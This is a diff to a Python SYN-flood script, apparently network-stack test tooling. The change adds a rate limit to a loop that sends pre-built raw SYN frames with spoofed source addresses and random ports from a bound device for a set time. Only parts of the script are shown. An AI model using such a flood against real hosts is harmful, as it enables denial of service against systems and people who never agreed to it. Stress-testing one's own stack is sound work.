@@ -1,5 +1,5 @@
 # SPDX-License-Identifier: BSD-2-Clause
-"""A SYN flood: flood.py DEV FROM_MAC TO_MAC NEAR TO SECONDS
+"""A SYN flood: flood.py DEV FROM_MAC TO_MAC NEAR TO SECONDS RATE
 
 Sources are addresses of NEAR's network that nobody has (the last byte, 60 to
 99) and all ports, so that no RST of the client's kernel ends what was begun:
@@ -11,7 +11,7 @@ import struct
 import sys
 import time
 
-dev, from_mac, to_mac, near, to, seconds = sys.argv[1:]
+dev, from_mac, to_mac, near, to, seconds, rate = sys.argv[1:]
 v6 = ":" in to
 family = socket.AF_INET6 if v6 else socket.AF_INET
 dst = socket.inet_pton(family, to)
@@ -42,8 +42,11 @@ s.bind((dev, 0))
 frames = [syn(net + bytes([random.randrange(60, 100)]),
               random.randrange(1024, 65536), random.getrandbits(32))
           for _ in range(20000)]  # all different: their making is not timed
-sent, end = 0, time.monotonic() + float(seconds)
-while time.monotonic() < end:
+sent, began = 0, time.monotonic()
+while time.monotonic() < began + float(seconds):
+    if sent > float(rate) * (time.monotonic() - began):
+        time.sleep(0.001)
+        continue
     try:
         s.send(frames[sent % len(frames)])
         sent += 1
